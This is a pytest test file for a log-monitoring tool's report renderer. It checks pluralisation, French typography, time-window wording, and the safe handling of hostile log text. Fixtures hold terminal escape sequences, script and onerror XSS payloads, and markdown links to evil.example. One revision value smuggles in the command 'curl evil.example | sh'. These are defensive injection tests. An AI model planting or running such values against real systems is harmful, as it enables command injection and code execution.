"""Reports treat log text as data and never contradict themselves: no terminal escapes, no markdown break-out,
no shell injection; no ✅ beside a finding; plural forms, French typography and dates as a reader expects."""

from __future__ import annotations

import json
import re
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from prodguardian.aggregate import cut_line
from prodguardian.check import CheckOptions, run_check
from prodguardian.render import Translator, catalog, clean, inline_code, is_plural, render
from prodguardian.rules import RulePack
from prodguardian.source import FileSource
from prodguardian.verdict import LogText, Report
from tests import logs
from tests.markdown import outside_code
from tests.reports import scenario_report

HOSTILE = "KeyError: '\x1b[2J\x1b[31mpwned\x1b[0m' ``` <script>alert(1)</script> \u202eevil\r\n| a | b |"
# Markup a chat or an agent's view would act on: a link, HTML, emphasis, a heading, a broken code span.
EVIL = "[click](http://evil.example) <img src=x onerror=alert(1)> **bold** _em_ ``` `tick` ``"
EVIL_TRACEBACK = f"""Traceback (most recent call last):
  File "/app/src/evil_[x](http://evil.example).py", line 3, in handler_evil
    boom()
KeyError: '{EVIL}'
"""


def check(entries: list[dict[str, Any]], pack: RulePack, **options: Any) -> Report:
    return run_check(entries, CheckOptions(**options), pack).report


def traffic(count: int = 60, **fields: Any) -> list[dict[str, Any]]:
    return [logs.request(i, "/api/threads", **fields) for i in range(count)]


def hostile_report(pack: RulePack, revision: str = logs.REVISION) -> str:
    entries = traffic(revision=revision)
    for i in range(4):
        entries.append(logs.request(100 + i, "/api/threads", 500, trace=f"{i:032x}", revision=revision))
        entries.append(logs.json_line(100.1 + i, HOSTILE, "ERROR", trace=f"{i:032x}", revision=revision))
    report = check(entries, pack)
    return "\n".join(
        render(report, fmt, lang) for fmt in ("text", "markdown", "json") for lang in ("en", "fr")
    )


def test_control_characters_never_reach_the_terminal(pack: RulePack) -> None:
    output = hostile_report(pack)
    assert "\x1b" not in output and "\r" not in output and "\u202e" not in output
    assert "pwned" in output  # the text is still shown, defanged


def test_a_code_span_no_backtick_can_close() -> None:
    span = inline_code("a ``` b ` c")
    assert span == "````a ``` b ` c````"
    assert inline_code("`tick`") == "`` `tick` ``"  # padded: a span may not start with its fence's backtick
    assert inline_code("two\nlines") == "`two lines`"


def test_log_text_cannot_add_links_html_or_formatting_to_a_markdown_report(pack: RulePack) -> None:
    revision = "rev-[x](http://evil.example)"
    entries = traffic(revision=revision)
    for i in range(4):
        entries.append(logs.request(100 + i, "/api/threads", 500, trace=f"{i:032x}", revision=revision))
        entries.append(logs.text_line(100.1 + i, EVIL_TRACEBACK, "ERROR", revision=revision))
    for entry in entries:
        labels = entry["resource"]["labels"]
        labels["service_name"] = "svc\n# [evil](http://evil.example)"
        labels["location"] = "eu`[evil](http://evil.example)"
    report = check(entries, pack)
    for lang in ("en", "fr"):
        markdown = render(report, "markdown", lang)
        # The title, the finding's title (its error group), the example, the frame, the revision, the advice.
        assert markdown.count("evil.example") >= 6
        prose = outside_code(markdown)
        assert "evil" not in prose and "<img" not in prose and "**bold**" not in prose, prose
        assert "\n# " not in markdown
        text = render(report, "text", lang)
        assert text.splitlines()[0].endswith("(eu`[evil](http://evil.example))")  # one line, shown as is


def test_json_report_keeps_the_message_as_data(pack: RulePack) -> None:
    entries = traffic()
    entries += [logs.json_line(100 + 10 * i, '{"status": "OK"} "quoted"', "ERROR") for i in range(4)]
    document = json.loads(render(check(entries, pack), "json"))
    assert document["status"] == "DEGRADED"
    assert '{"status": "OK"} "quoted"' in document["findings"][0]["examples"]


def test_names_from_logs_never_reach_a_shell_command(pack: RulePack) -> None:
    output = hostile_report(pack, revision="rev-1; curl evil.example | sh")
    assert "curl evil" not in "\n".join(line for line in output.splitlines() if "gcloud" in line)


def test_clean_keeps_text_and_newlines() -> None:
    assert clean("line one\nline two\tend") == "line one\nline two\tend"
    assert clean("\x07bell\x9b") == "\ufffdbell\ufffd"


def test_one_failed_request_of_one_is_never_a_green_line(pack: RulePack) -> None:
    report = check([logs.request(0, "/api/threads", 500)], pack)
    text = render(report, "text")
    assert report.status == "OK" and "✅ HTTP errors" not in text and "✅ No anomaly detected" not in text
    assert "ℹ️ HTTP 5xx errors — 1 failure in 1 min: 100% of 1 request · not enough to alert" in text
    french = render(report, "text", "fr")
    assert "ℹ️ Erreurs HTTP 5xx — 1 échec en 1\u00a0min\u00a0: 100\u202f% de 1 requête" in french


def test_slow_requests_too_few_to_alert_are_not_stable_latency(pack: RulePack) -> None:
    report = check(traffic(5, latency="8.5s"), pack)  # the rule waits for 20 requests; the objective fails
    text = render(report, "text")
    assert "✅ Latency" not in text
    assert "ℹ️ Latency — p95 8.5 s over 5 requests · not enough to alert" in text
    assert re.search(r"p95 latency +8\.5 s +< 1\.0 s +❌", text)
    latency = next(f for f in json.loads(render(report, "json"))["findings"] if f["kind"] == "latency")
    assert latency["summary"] == "Latency — p95 8.5 s over 5 requests"  # not "Latency high"


def test_unknown_errors_under_the_thresholds_are_listed_not_denied(pack: RulePack) -> None:
    report = check([*traffic(), logs.json_line(200, "KeyError: 'thread_id'", "ERROR")], pack)
    text = render(report, "text")
    assert "✅ No unknown errors" not in text
    assert "ℹ️ Unknown error: KeyError: 'thread_id' — 1 failure in 3 min · not enough to alert" in text
    french = render(report, "text", "fr")
    assert "ℹ️ Erreur inconnue\u00a0: KeyError: 'thread_id' — 1 échec en 3\u00a0min" in french


def test_an_area_without_traffic_says_so(pack: RulePack) -> None:
    text = render(check(traffic(), pack), "text")
    assert "ℹ️ No WebSocket sessions in the window" in text and "0 sessions" not in text
    assert "✅ HTTP errors: 0% (0 of 60 requests)" in text


def test_json_writes_whole_numbers_as_integers() -> None:
    """A rule's `ms: 1000` or `above_baseline: 3`, an objective's target 0, a rate of 9/h: never 3.0."""
    floats: list[str] = []
    for scenario in ("slow", "db-outage"):
        text = render(scenario_report(scenario), "json")
        document = json.loads(text, parse_float=lambda number: floats.append(number) or float(number))
        assert not [number for number in floats if float(number).is_integer()], scenario
        assert any(isinstance(f["threshold"], dict) for f in document["findings"])
        assert all(isinstance(o["target"], int | float) for o in document["objectives"])


def test_json_summaries_carry_their_values(pack: RulePack) -> None:
    reconnecting = "Database connection lost. Attempting automatic reconnection..."
    entries = [logs.request(60 * i, "/api/threads") for i in range(60)]  # an hour of traffic
    entries += [logs.json_line(100 + i, reconnecting, "WARNING") for i in range(2)]
    document = json.loads(render(check(entries, pack), "json"))
    metric = next(f for f in document["findings"] if f["rule"] == "database-reconnection")
    assert metric["severity"] == "INFO" and metric["summary"].endswith("2 in 1 h, objective < 5/h")
    summaries = {o["id"]: o["summary"] for o in document["objectives"]}
    assert summaries["database_reconnection"] == "Reconnections: 2/h (target < 5/h)"
    assert summaries["websocket_error_rate"] == "WebSocket error rate: — (target < 1%)"
    assert document["metrics"]["failed_requests"] == 0 and document["metrics"]["error_rate"] == 0


def test_an_input_that_names_no_service_has_a_null_service(pack: RulePack) -> None:
    entries = traffic()
    for entry in entries:
        del entry["resource"]["labels"]["service_name"]
    report = check(entries, pack)
    assert json.loads(render(report, "json"))["service"] is None
    assert render(report, "text").splitlines()[0].startswith("🟢 Production Status: OK — (unnamed service)")


def test_plural_forms_follow_each_languages_rules() -> None:
    en, fr = Translator("en"), Translator("fr")
    words = {n: en("failure_headline", n=str(n), count=n, length="1 h") for n in (0, 1, 2)}
    assert words == {0: "0 failures in 1 h", 1: "1 failure in 1 h", 2: "2 failures in 1 h"}
    words = {n: fr("failure_headline", n=str(n), count=n, length="1 h") for n in (0, 1, 2)}
    assert words == {0: "0 échec en 1 h", 1: "1 échec en 1 h", 2: "2 échecs en 1 h"}  # French 0 is singular
    assert fr("instances", n="1 000 000", count=1_000_000) == "1 000 000 instances"  # CLDR "many" → other
    assert en("rules.websocket-error.what", count=1) == "broken WebSocket session"


def test_french_elides_de_and_que_before_a_vowel() -> None:
    fr, md = Translator("fr"), Translator("fr", markdown=True)
    advice = fr("advice.rollback", new=LogText("x-2"), old=LogText("emergence-app-1"), failures=1, total=1)
    assert "alors qu'emergence-app-1 fonctionnait" in advice
    advice = md("advice.rollback", new=LogText("x-2"), old=LogText("Ösel-1"), failures=1, total=1)
    assert "alors qu'`Ösel-1` fonctionnait" in advice
    assert "alors que web-1 fonctionnait" in fr("advice.rollback", old=LogText("web-1"))
    assert fr.elide("celles de {revision}", {"revision": "api-2"}) == "celles d'{revision}"
    assert Translator("en").elide("of {revision}", {"revision": "api-2"}) == "of {revision}"


def test_a_revision_share_says_its_count_and_denominator(pack: RulePack) -> None:
    report = scenario_report("bad-deploy")
    assert "(12 of 155 in emergence-app-00298-xyz: 7.74%)" in render(report, "text")
    assert "(12 sur 155 dans emergence-app-00298-xyz\u00a0: 7,74\u202f%)" in render(report, "text", "fr")
    (worst,) = [
        f["worst_revision"] for f in json.loads(render(report, "json"))["findings"] if f["worst_revision"]
    ]
    assert worst == {"revision": "emergence-app-00298-xyz", "count": 12, "denominator": 155, "rate": 12 / 155}


def test_a_missing_table_is_not_called_a_missing_database() -> None:
    fixture = Path(__file__).parent / "fixtures" / "real" / "startup-port-failed-mysql-schema.json"
    report = run_check(FileSource(str(fixture)), CheckOptions()).report
    assert "❌ Database or table missing — 1 failure in 1 min" in render(report, "text")
    assert "❌ Base de données ou table manquante — 1 échec en 1\u00a0min" in render(report, "text", "fr")


def test_a_metric_headline_has_one_pair_of_parentheses() -> None:
    text = render(scenario_report("reconnect-storm"), "text")
    assert "⚠️ Database reconnections — 12 in 1 h, objective < 5/h (usual: 0/h, p < 1e-6)" in text


def test_one_of_everything_is_singular(pack: RulePack) -> None:
    entries = [logs.request(0, "/api/threads"), *logs.failing_request_lines(10, trace="b" * 32)]
    text = render(check(entries, pack), "text")
    assert "1 failure in 1 min" in text and "revision emergence-app-00297-6pr · 1 instance" in text
    assert "failures" not in text and "1 instances" not in text


def test_a_window_across_midnight_shows_both_dates(pack: RulePack) -> None:
    midnight = logs.T0.replace(hour=0, minute=0) + timedelta(days=1)
    entries = [logs.request(midnight + timedelta(minutes=m - 30), "/api/threads") for m in range(61)]
    report = check(entries, pack)
    assert render(report, "text").splitlines()[1].startswith("Window 2025-10-11 23:30 – 2025-10-12 00:30 UTC")
    french = render(report, "text", "fr").splitlines()[1]
    assert french.startswith("Fenêtre du 2025-10-11 23:30 au 2025-10-12 00:30 UTC")


def test_a_failure_seen_in_one_second_shows_its_time_once(pack: RulePack) -> None:
    entries = [logs.request(0, "/api/threads"), *logs.failing_request_lines(10, trace="b" * 32)]
    text = render(check(entries, pack), "text")
    assert "   11:30:10 · revision emergence-app-00297-6pr · 1 instance" in text and "→" not in text


def test_a_window_of_seconds_reads_to_the_second(pack: RulePack) -> None:
    entries = [logs.request(s, "/api/threads") for s in range(120)]
    report = check(entries, pack, freshness=timedelta(seconds=1), until=logs.T0 + timedelta(seconds=100))
    assert render(report, "text").splitlines()[1].startswith("Window 11:31:39–11:31:40 UTC, 2025-10-11 (1 s)")
    assert "Fenêtre 11:31:39–11:31:40 UTC, 2025-10-11 (1\u00a0s)" in render(report, "text", "fr")
    failing = [*entries, *logs.failing_request_lines(99.5, trace="c" * 32)]
    report = check(failing, pack, freshness=timedelta(seconds=1), until=logs.T0 + timedelta(seconds=100))
    assert "1 failure in 1 s" in render(report, "text"), "never more time than the window has"


def test_a_window_before_the_data_says_the_data_starts_after_it(pack: RulePack) -> None:
    report = check([logs.request(0, "/api/threads")], pack, until=logs.T0 - timedelta(days=1))
    line = render(report, "text").splitlines()[1]
    assert "⚠️ the data starts after the window, at 2025-10-11 11:30 UTC" in line and "data covers" not in line
    assert "les données commencent après la fenêtre, le 2025-10-11 11:30 UTC" in render(report, "text", "fr")


def test_a_cut_log_line_ends_with_an_ellipsis(pack: RulePack) -> None:
    assert cut_line("x" * 400) == "x" * 299 + "…"
    assert cut_line("first line\n  second line\n") == "first line …"
    assert cut_line("  whole line  \n\n") == "whole line"
    entries = traffic() + [logs.json_line(200 + i, "RuntimeError: " + "y" * 500, "ERROR") for i in range(3)]
    document = json.loads(render(check(entries, pack), "json"))
    example = next(f for f in document["findings"] if f["rule"] == "unknown-error")["examples"][0]
    assert len(example) == 300 and example.endswith("…")


def test_no_entries_gives_its_reason_in_the_reports_language(pack: RulePack) -> None:
    report = check([logs.request(0, "/api/threads")], pack, until=logs.T0 + timedelta(hours=5))
    assert "no entries between 2025-10-11 15:30 and 16:30 UTC (1 entry read)" in render(report, "text")
    french = render(report, "text", "fr")
    assert (
        "⚪ Impossible de conclure\u00a0: aucune entrée entre 2025-10-11 15:30 et 16:30 UTC (1 entrée lue)"
        in french
    )
    assert json.loads(render(report, "json", "fr"))["reason"].startswith("aucune entrée")


def test_the_french_catalog_is_complete() -> None:
    def keys(entry: Any, prefix: str = "") -> set[str]:
        if not isinstance(entry, dict) or is_plural(entry):
            return {prefix}
        return {k for key, value in entry.items() for k in keys(value, f"{prefix}.{key}")}

    english, french = catalog("en"), catalog("fr")
    assert keys({**french, "format": None}) == keys({**english, "format": None})


@pytest.mark.parametrize("lang", ["en", "fr"])
def test_every_rule_of_the_builtin_pack_has_a_title_of_its_own(pack: RulePack, lang: str) -> None:
    t = Translator(lang)
    shown = [rule for rule in pack.rules if rule.type != "suppress"]
    titles = [t.lookup(f"rules.{rule.id}.title") for rule in shown]
    assert all(titles), [rule.id for rule, title in zip(shown, titles, strict=True) if not title]
    assert len(set(titles)) == len(titles), sorted(title for title in titles if titles.count(title) > 1)
    assert t("latency_title") not in titles
